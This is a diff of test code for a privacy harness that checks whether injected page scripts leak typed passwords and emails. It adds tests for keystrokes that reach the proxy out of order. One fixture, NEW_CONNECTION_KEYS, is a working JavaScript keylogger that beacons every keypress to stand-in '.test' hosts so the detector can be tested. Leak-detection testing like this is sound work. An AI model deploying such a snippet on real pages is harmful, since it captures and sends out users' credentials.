@@ -9,6 +9,7 @@ import gzip
 import io
 import json
 import re
+from pathlib import Path
 from typing import Any
 from urllib.parse import quote
 
@@ -17,7 +18,7 @@ from demo_flows import SITE, login
 
 from harness.capture.proxy import CapturedRequest
 from harness.cli import ExitStatus, main
-from harness.privacy.fragments import PIECES_WINDOW_MS, FragmentHit, find_fragments
+from harness.privacy.fragments import PIECES_WINDOW_MS, REORDER_MS, FragmentHit, find_fragments
 from harness.privacy.keys import physical
 from harness.privacy.leaks import Protected, fingerprint
 from harness.privacy.redact import keystroke_parts, mask_keystrokes
@@ -383,3 +384,48 @@ def test_leaky_tracker_is_caught(leaky_runs: list[dict[str, Any]], tracker: str)
     caught = [f for f in findings if (f["field"], f["where"].split(" over ")[0], f["variant"]) == (field, where, variant)]
     assert caught, sorted({(f["field"], f["where"], f["variant"], f["url"]) for f in findings})
     assert all(any(host in f["url"] for host in hosts) or "⟦fp:" in f["url"] for f in caught), caught
+
+
+# Every other key to a host of its own: that beacon waits for a new connection (TCP, CONNECT, TLS) and reaches
+# the proxy after the next key, which went over the connection already open. Typed fast, as a person types.
+NEW_CONNECTION_KEYS = """(() => { let n = 0; addEventListener('keydown', (e) => {
+    const host = n % 2 ? 'fresh' + n + '.test' : 'warm.test'; n++;
+    navigator.sendBeacon('https://' + host + '/k', JSON.stringify({key: e.key})); }, true); })();"""
+
+
+@pytest.mark.parametrize("engine", ["chromium", "firefox"])
+def test_keys_are_read_in_the_order_they_left_not_the_order_they_arrived(engine: str, tmp_path: Path) -> None:
+    folder = tmp_path
+    (folder / "login.yaml").write_text(login(delay_ms=10, wait_ms=300))
+    (folder / "snippet.js").write_text(NEW_CONNECTION_KEYS)
+    out, err = io.StringIO(), io.StringIO()
+    status = main(
+        ["run", str(folder / "login.yaml"), "--site", str(SITE), "--snippet", str(folder / "snippet.js"),
+         "--report", str(folder / "r"), "--browser", engine], out, err,
+    )
+    assert status == ExitStatus.CHECK_FAILED, out.getvalue() + err.getvalue()
+    (run,) = json.loads((folder / "r" / "results.json").read_text())["runs"]
+    caught = {(f["field"], f["where"].split(" over ")[0], f["variant"]) for f in run["findings"]}
+    assert ("#password", "fragments:key", "exact") in caught, caught
+    assert ("#email", "fragments:key", "exact") in caught, caught
+
+
+def test_keys_that_left_close_together_may_arrive_out_of_order() -> None:
+    """A key waits for a new connection and comes after the next one: within `REORDER_MS` it is put back."""
+    order = [0, 1, 2, 3, 5, 4, *range(6, len(SECRET))]  # the 5th key came after the 6th
+    payloads = [json.dumps({"k": SECRET[i]}).encode() for i in order]
+    close = [100.0 * n for n in range(len(SECRET))]
+    (hit,) = find_fragments(payloads, VALUES, KEY, times=close)
+    assert (hit.name, hit.variant, hit.payloads) == ("password", "exact", tuple(range(len(SECRET))))
+    apart = [(REORDER_MS + 1) * n for n in range(len(SECRET))]
+    assert [hit.variant for hit in find_fragments(payloads, VALUES, KEY, times=apart)] == ["prefix:4/15"]
+    assert [hit.variant for hit in find_fragments(payloads, VALUES, KEY)] == ["prefix:4/15"]  # no times: as sent
+    other = [json.dumps({"k": c}).encode() for c in SECRET[:4] + "x" + SECRET[5:]]  # a key missing: no value
+    assert [hit.variant for hit in find_fragments(other, VALUES, KEY, times=close)] == ["prefix:4/15"]
+
+
+def test_stored_traffic_masks_keys_put_back_in_order() -> None:
+    order = [1, 0, *range(2, len(SECRET))]
+    requests = [_beacon(50.0 * n, "https://k.test/k", json.dumps({"k": SECRET[i]}).encode()) for n, i in enumerate(order)]
+    parts = keystroke_parts(requests, [], VALUES, KEY)
+    assert set(parts) == {("request", n, "body") for n in range(len(SECRET))}
